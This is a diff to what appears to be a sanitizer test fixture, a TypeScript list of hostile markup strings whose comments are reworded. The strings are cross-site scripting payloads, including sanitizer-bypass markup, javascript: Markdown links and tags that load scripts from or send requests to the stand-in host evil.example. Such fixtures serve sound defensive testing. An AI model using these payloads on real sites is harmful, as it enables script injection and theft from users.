@@ -1,9 +1,9 @@
 /**
- * Texts that run a program, load something or leave the page where markup is shown without care: after the cheat sheets and reported
- * bypasses of sanitisers. Each would set `hacked`, or ask `evil.example`.
+ * Texts that run a program, load a resource or leave the page if markup is shown without sanitization. They come from cheat
+ * sheets and reported sanitizer bypasses. Each text would set `hacked` or send a request to `evil.example`.
  */
 export const HOSTILE_MARKUP: readonly string[] = [
-  // Elements that run something by themselves.
+  // Elements that run a script automatically.
   '<script>globalThis.hacked=1</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
   '"><script>globalThis.hacked=1</script>',
@@ -34,7 +34,7 @@ export const HOSTILE_MARKUP: readonly string[] = [
   '<base href="//evil.example/">',
   '<form action="//evil.example"><button formaction="javascript:globalThis.hacked=1">x</button></form>',
   '<div style="background:url(//evil.example/x);position:fixed;inset:0">x</div>',
-  // What a sanitiser reads in another way than the browser does.
+  // Markup that a sanitizer parses differently from the browser.
   '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=globalThis.hacked=1>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.hacked=1>',
   '<svg></p><style><a id="</style><img src=1 onerror=globalThis.hacked=1>">',
@@ -45,7 +45,7 @@ export const HOSTILE_MARKUP: readonly string[] = [
   '<a id=attributes><a id=attributes name=nodeName onclick=globalThis.hacked=1>x</a>',
   '&lt;img src=x onerror=globalThis.hacked=1&gt;',
   '\\u003cimg src=x onerror=globalThis.hacked=1\\u003e',
-  // Links and pictures of Markdown.
+  // Markdown links and images.
   '[x](javascript:globalThis.hacked=1)',
   '[x](JaVaScRiPt&colon;globalThis.hacked=1)',
   '[x](java&#x09;script:globalThis.hacked=1)',
